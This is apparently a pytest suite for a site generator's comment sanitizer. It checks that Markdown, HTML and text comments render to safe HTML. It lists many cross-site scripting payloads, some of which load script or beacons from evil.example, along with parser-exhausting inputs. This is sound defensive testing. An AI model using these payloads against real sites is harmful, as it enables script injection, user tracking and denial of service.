"""Comment bodies, from each format to the page: rows 20 to 35 of what must be survived."""

import json
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.load.balance import balance
from sitegen.load.bodies import LONGEST_BODY, Repair, render_body
from sitegen.load.sanitize import EMITTED, guard, strict
from sitegen.model.documents import CommentFormat
from tests.conftest import shared_samples

MARKDOWN, HTML, TEXT = CommentFormat.MARKDOWN, CommentFormat.HTML, CommentFormat.TEXT

REL = 'rel="nofollow ugc noopener noreferrer"'
LINK = f'<a href="http://x.example/" {REL}>'

OWN_VECTORS = [
    "<script>alert(1)</script>",
    '<script src="//evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/beacon.gif" width=1>',
    "![](http://evil.example/beacon.gif)",
    "![x](//evil.example/beacon.gif)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img alt='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="http://x.example/" onclick=alert(1) onfocus=alert(1) autofocus>x</a>',
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "<javascript:alert(1)>",
    '[x](http://x.example/ "onmouseover=alert(1)")',
    '[x](http://x.example/"onmouseover="alert(1))',
    'http://x.example/"onmouseover="alert(1)',
    "http://x.example/'><script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<p style='position:fixed;inset:0;background:url(http://evil.example/)'>x</p>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'><base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
    "<video poster=http://evil.example/ src=x onerror=alert(1)></video><audio src=//evil.example/></audio>",
    "<form action='//evil.example/'><button formaction='javascript:alert(1)'>x</button></form>",
    "<table background='http://evil.example/'><td background='javascript:alert(1)'>x</table>",
    "<p id=comment-1>x</p><a name=body>x</a><img name=cookie><form name=forms>x</form>",
    "</div></li></ol></article></body></html><h1>mine",
    "<template><script>alert(1)</script></template><plaintext><b>x",
    "<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<![CDATA[<script>alert(1)</script>]]><!--<img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '```"><script>alert(1)</script>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}{% raw %}<b>${alert(1)}</b>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>y</div>",
    "<ruby><rt><img src=x onerror=alert(1)></ruby><select><style></select><img src=x onerror=alert(1)>",
]


def vectors() -> list[str]:
    """This repository's own, and thousands more where the samples lie beside it."""
    samples = shared_samples()
    collected = samples / "xss" / "vectors.json" if samples else None
    if collected is None or not collected.is_file():
        return OWN_VECTORS
    return OWN_VECTORS + [vector["input"] for vector in json.loads(collected.read_text(encoding="utf-8"))]


class Faults(HTMLParser):
    """What a page's reader finds wrong with a body: everything that is not in the closed list of what it may hold."""

    BLOCKS = frozenset(("blockquote", "ol", "p", "pre", "ul"))

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.found: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        self.found += [f"<{name}> is left open" for name in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in EMITTED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if not self.allowed(tag, name, value or ""):
                self.found.append(f'<{tag} {name}="{value}">')
        if tag == "a" and "a" in self.open:
            self.found.append("<a> in <a>")
        if self.inside() not in self.holders(tag):
            self.found.append(f"<{tag}> in <{self.inside()}>")
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.inside() != tag:
            self.found.append(f"</{tag}> in <{self.inside()}>")
        else:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        self.text += data
        if data.strip() and self.inside() in ("", "ul", "ol", "blockquote"):
            self.found.append(f"words in <{self.inside()}>: {data}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def inside(self) -> str:
        return self.open[-1] if self.open else ""

    def holders(self, tag: str) -> set[str]:
        """The elements in which this one may stand."""
        if tag == "li":
            return {"ul", "ol"}
        if tag in self.BLOCKS:
            return {"", "blockquote", "li"}
        return set(EMITTED) - {"ul", "ol", "blockquote", "br"}

    @staticmethod
    def allowed(tag: str, name: str, value: str) -> bool:
        match tag, name:
            case "a", "href":
                return value.startswith(("http://", "https://", "mailto:"))
            case "a", "rel":
                return value == "nofollow ugc noopener noreferrer"
            case "ol", "start":
                return value.isdecimal()
            case _:
                return False


def faults(html: str) -> list[str]:
    """Also what the guard or the balancer would still change."""
    found = Faults(html).found
    if strict(html) != html or guard(html) != html:
        found.append("the guard changes it")
    if balance(html).html != html:
        found.append("it is not balanced")
    return found


def check(format: CommentFormat, body: str, expected: str, *repairs: Repair) -> None:
    rendered = render_body(body, format)
    assert (rendered.html, rendered.repairs) == (expected, repairs)
    assert faults(rendered.html) == []


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "Two\nlines, *and* **more** ~~or~~ `less`.",
            "<p>Two<br>\nlines, <em>and</em> <strong>more</strong> <s>or</s> <code>less</code>.</p>",
        ),
        ("One\n\n\nTwo", "<p>One</p>\n<p>Two</p>"),
        (
            "> quoted\n> > twice\n\nanswer",
            "<blockquote><p>quoted</p><blockquote><p>twice</p></blockquote></blockquote>\n<p>answer</p>",
        ),
        ("3. c\n4. d\n   - e", '<ol start="3"><li>c</li><li>d<ul><li>e</li></ul></li></ol>'),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("# Head\ntext\n\nHead\n===", "<p><strong>Head</strong></p>\n<p>text</p>\n<p><strong>Head</strong></p>"),
        ("    a <b>\n", "<pre><code>a &lt;b&gt;\n</code></pre>"),
        ("```python\n'x' -- \"y\"\n```", "<pre><code>'x' -- \"y\"\n</code></pre>"),
        # words as they were written
        ('"Quotes" -- and... (c) 1/2 :) {{7*7}}', '<p>"Quotes" -- and... (c) 1/2 :) {{7*7}}</p>'),
        ("<script>x</script> <b>y</b> a < b", "<p>&lt;script&gt;x&lt;/script&gt; &lt;b&gt;y&lt;/b&gt; a &lt; b</p>"),
        ("| a | b |\n|---|---|\n| c | d |", "<p>| a | b |<br>\n|---|---|<br>\n| c | d |</p>"),
        ("&copy; &lt;b&gt; &amp;amp;", "<p>© &lt;b&gt; &amp;amp;</p>"),
        # links
        ("[x](http://x.example/) <http://x.example/>", f"<p>{LINK}x</a> {LINK}http://x.example/</a></p>"),
        (
            "see http://x.example/, or (http://x.example/).",
            f"<p>see {LINK}http://x.example/</a>, or ({LINK}http://x.example/</a>).</p>",
        ),
        (
            "http://x.example/a_b_c_(d)*e",
            f'<p><a href="http://x.example/a_b_c_(d)*e" {REL}>http://x.example/a_b_c_(d)*e</a></p>',
        ),
        (
            "*http://x.example/* ~~http://x.example/~~",
            f"<p><em>{LINK}http://x.example/</a></em> <s>{LINK}http://x.example/</a></s></p>",
        ),
        (
            "http://x.example/%C3%9F?a=1&amp;b=2",
            f'<p><a href="http://x.example/%C3%9F?a=1&amp;b=2" {REL}>http://x.example/%C3%9F?a=1&amp;b=2</a></p>',
        ),
        (
            "www.x.example/a_b_ and HTTP://X.example/",
            f'<p><a href="http://www.x.example/a_b" {REL}>www.x.example/a_b</a>_ and {LINK}HTTP://X.example/</a></p>',
        ),
        ("[www.x.example http://y.example](http://x.example/)", f"<p>{LINK}www.x.example http://y.example</a></p>"),
        ("`http://x.example/ www.x.example`", "<p><code>http://x.example/ www.x.example</code></p>"),
        (
            "x.example ann@x.example //x.example ftp://x.example ahttp://x.example xwww.x.example www.x",
            "<p>x.example ann@x.example //x.example ftp://x.example ahttp://x.example xwww.x.example www.x</p>",
        ),
        ("<ann@x.example>", f'<p><a href="mailto:ann@x.example" {REL}>ann@x.example</a></p>'),
        ("[a](javascript:x) [b](//x.example) [c](/d) [e](#f)", "<p>[a](javascript:x) b c e</p>"),
        (
            "![words](http://x.example/) ![](http://x.example/) ![w](data:image/png;base64,x)",
            f"<p>{LINK}words</a> {LINK}http://x.example/</a> w</p>",
        ),
        ("[![words](http://y.example/)](http://x.example/)", f"<p>{LINK}words</a></p>"),
    ],
)
def test_markdown(body: str, expected: str) -> None:
    """CommonMark without HTML; line ends stay; nothing is replaced for typography's sake."""
    check(MARKDOWN, body, expected)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("One.\nStill one.\n\nToo.", "<p>One.<br>\nStill one.</p>\n<p>Too.</p>"),
        ("One.<br><br>Two.", "<p>One.<br><br>Two.</p>"),
        (
            "<p>One <em>and</em> <a href='http://x.example/'>link</a>.</p>\n<p>Two.</p>",
            f"<p>One <em>and</em> {LINK}link</a>.</p>\n<p>Two.</p>",
        ),
        ("http://x.example/ *stars*", "<p>http://x.example/ *stars*</p>"),
        ("</article></ol></div><li>a", "<ul><li>a</li></ul>"),
        ("<p id=comment-1 class=x>a</p><a name=body>b</a>", "<p>a</p>\n<p>b</p>"),
        ("<div style='position:fixed'>a</div>", "<p>a</p>"),
        ("a<img src='http://x.example/' width=1>", f"<p>a{LINK}http://x.example/</a></p>"),
        (
            "<a href=//evil.example/>a</a> <a href=https:evil.example>b</a> <a href=\\\\evil.example>c</a>",
            "<p>a b c</p>",
        ),
        ("a<script>alert(1)</script>b", "<p>ab</p>"),
        ("a\u202eb", "<p>a\u202eb</p>"),
        ("<p>&#39;&quot;&amp;lt;&nbsp;x", "<p>'\"&amp;lt;&nbsp;x</p>"),
    ],
)
def test_html(body: str, expected: str) -> None:
    """What is safe of it, in valid form."""
    check(HTML, body, expected)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("", ""),
        ("One\ntwo\r\nthree\n \n\nfour\n", "<p>One<br>\ntwo<br>\nthree</p>\n<p>four</p>"),
        ("<b>*a*</b> & &amp; {{7*7}}", "<p>&lt;b&gt;*a*&lt;/b&gt; &amp; &amp;amp; {{7*7}}</p>"),
        (
            "(http://x.example/), www.x.example!",
            f'<p>({LINK}http://x.example/</a>), <a href="http://www.x.example" {REL}>www.x.example</a>!</p>',
        ),
        (
            "http://x.example/?a=1&b='2'\"",
            f"<p><a href=\"http://x.example/?a=1&amp;b='2\" {REL}>http://x.example/?a=1&amp;b='2</a>'\"</p>",
        ),
        (
            "“http://x.example/” [http://x.example/] http://x.example/。",
            f"<p>“{LINK}http://x.example/</a>” [{LINK}http://x.example/</a>] {LINK}http://x.example/</a>。</p>",
        ),
        (
            "http://user@x.example/ http://[x www. javascript:alert(1)",
            "<p>http://user@x.example/ http://[x www. javascript:alert(1)</p>",
        ),
    ],
)
def test_text(body: str, expected: str) -> None:
    """Blank lines part paragraphs, line ends stay, web addresses are links."""
    check(TEXT, body, expected)


def test_links() -> None:
    """Where they lead, as the internal link checker compares it: not escaped."""
    body = "[a](http://x.example/?a=1&b=2) ![i](http://y.example/) <ann@x.example> [z](/relative)"
    assert render_body(body, MARKDOWN).links == (
        "http://x.example/?a=1&b=2",
        "http://y.example/",
        "mailto:ann@x.example",
    )


@pytest.mark.parametrize("format", CommentFormat)
def test_forbidden_characters_are_replaced(format: CommentFormat) -> None:
    """NUL, other controls, half surrogate pairs and noncharacters; Windows-1252 is read as browsers read it."""
    check(format, "a\0b\x07c\ud800d\ufffee\U0001ffff", "<p>a\ufffdb\ufffdc\ufffdd\ufffde\ufffd</p>", Repair.CHARACTERS)
    check(format, "\x93a\x94 \x80 \x81", "<p>“a” € \ufffd</p>", Repair.CHARACTERS)
    assert render_body("a\tb \u00ad\u200d\u202e\U0001f600\r\nc\rd", format).repairs == ()


def test_forbidden_characters_do_not_come_back_as_references() -> None:
    """The parser decodes them after the text was looked at."""
    check(HTML, "a&#1;b&#xFFFE;c&#13;d&#0;", "<p>a\ufffdb\ufffdc\nd\ufffd</p>", Repair.CHARACTERS)


def test_a_long_body_is_cut_at_white_space() -> None:
    """As much of it as 64 KiB hold; nothing is split."""
    words = "fünf " * 20_000
    rendered = render_body(words, TEXT)
    shown = Faults(rendered.html).text
    assert rendered.repairs == (Repair.CUT,)
    assert LONGEST_BODY - 10 < len(shown.encode()) <= LONGEST_BODY
    assert set(shown.split()) == {"fünf"}
    assert render_body("x" * LONGEST_BODY, TEXT).repairs == ()
    assert Faults(render_body("€" * LONGEST_BODY, TEXT).html).text == "€" * (LONGEST_BODY // 3)


@pytest.mark.parametrize("tail", ["<a href='http://x.example/" + "y" * 900, "<b", "&am", "</", "&#12"])
def test_html_is_not_cut_inside_a_tag(tail: str) -> None:
    """Nor in a character reference: a part of one would stand among the words."""
    start = "x" * (LONGEST_BODY - len(tail))
    check(HTML, start + tail + "p;>more", f"<p>{start}</p>", Repair.CUT)


def test_entangled_formatting_is_simplified() -> None:
    """The words stay."""
    rendered = render_body("<p>" + "".join(f"<b {n}>" for n in range(3_000)) + "<p>word" * 3_000, HTML)
    assert rendered.repairs == (Repair.SIMPLIFIED,)
    assert rendered.html == "\n".join(["<p>word</p>"] * 3_000)


@pytest.mark.parametrize("format", CommentFormat)
def test_nothing_active_gets_through(format: CommentFormat) -> None:
    """Row 20, without a browser: every vector, as a comment of each format. (With one: tests/pages/test_xss.py.)"""
    found = {vector: faults(render_body(vector, format).html) for vector in vectors()}
    assert {vector: each for vector, each in found.items() if each} == {}


HOSTILE = [
    "<blockquote>" * 100_000,
    "<ul><li>" * 8_000,
    "<div>" * 13_000,
    "<b><p></b>" * 6_000,
    "<p><b 1><i 2>" + "".join(f"<b {n}>" for n in range(3_000)) + "<p>x" * 8_000,
    '<p><a href="http://x.example/' + "y" * 30_000 + '">' + "<p>x" * 8_000,
    "a@b.c " * 10_000,
    "[" * 20_000,
    "![[" * 20_000,
    "[a](" * 16_000,
    "[a\n" * 20_000,
    "*a **a " * 10_000,
    "*a_ " * 16_000,
    ">" * 30_000 + "a\n" + "b\n" * 15_000,
    "> - " * 16_000,
    "\n".join("  " * depth + "- x" for depth in range(250)),
    " ".join("`" * length + "a" for length in range(1, 350)),
    "http://" * 9_000,
    "http://a:" * 7_000,
    "http://a.example/(" * 3_600,
    "http://a/&a;" * 5_400,
    "www.a.b " * 8_000,
    "<" * 65_000,
    "&" * 65_000,
    "\\\n" * 32_000,
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile[:12].encode("unicode_escape").decode())
def test_hostile_bodies_take_their_time_and_no_more(hostile: str) -> None:
    """Each took minutes somewhere, or died of recursion; here about a second, in a process that could be ended."""
    program = (
        "import sys; from sitegen.load.bodies import render_body; from sitegen.model.documents import CommentFormat\n"
        "body = sys.stdin.buffer.read().decode()\n"
        "print(max(len(render_body(body, format).html) for format in CommentFormat))"
    )
    done = subprocess.run(
        [sys.executable, "-c", program], input=hostile.encode(), capture_output=True, timeout=30, check=False
    )
    assert done.stderr.decode() == ""
    assert int(done.stdout) < 30 * LONGEST_BODY


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet=st.characters(), max_size=300), st.sampled_from(CommentFormat))
def test_any_text_becomes_a_sound_body(body: str, format: CommentFormat) -> None:
    """Nothing raises, whatever a stranger wrote."""
    assert faults(render_body(body, format).html) == []


PIECES = [
    *"abc \n\t<>&\"'[]()*_~`#-+.:/\\!|=0123",
    *("\n\n", "    ", "\n> ", "\n- ", "\n1. ", "**", "~~", "```\n", "](", "![", "http://x.example/", "www.x.example"),
    *("&lt;", "&nbsp;", "&#1;", "<b>", "</b>", "<p>", "<ul>", "<li>", "<a href=http://x.example/>", "</a>", "<pre>"),
    *(
        "<div>",
        "<h1>",
        "<img src=http://x.example/ alt='",
        "<!--",
        "-->",
        "<script>",
        "<svg>",
        "javascript:",
        "<x@y.z>",
    ),
]


@settings(deadline=None, max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join), st.sampled_from(CommentFormat))
def test_any_markup_becomes_a_sound_body(body: str, format: CommentFormat) -> None:
    """The same, of the pieces that mean something."""
    assert faults(render_body(body, format).html) == []


@settings(deadline=None, max_examples=300)
@given(
    st.text(
        alphabet=st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\n \t<>&'\"[]*_/.:hw"), max_size=300
    )
)
def test_text_keeps_every_character(body: str) -> None:
    """But white space, of which HTML makes one kind."""
    rendered = render_body(body, TEXT)
    if not rendered.repairs:
        assert "".join(Faults(rendered.html).text.split()) == "".join(body.split())
